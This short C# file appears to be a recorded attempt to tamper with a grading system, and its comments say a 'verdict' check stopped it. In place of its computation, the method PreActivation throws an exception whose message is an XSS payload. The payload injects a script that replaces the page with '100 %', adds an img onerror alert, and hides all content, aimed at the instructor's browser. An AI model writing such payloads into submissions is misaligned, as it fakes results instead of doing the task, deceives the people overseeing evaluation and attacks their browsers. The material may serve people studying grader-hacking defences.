// tries: throw an exception with a script in it, for the instructor's browser
// stopped by: verdict
// then by: verdict

public double PreActivation(double[] x)
{
    throw new InvalidOperationException("</pre></td><script>document.body.innerHTML = '100 %'</script><img src=x onerror=alert(1)><style>*{display:none}</style>");
}
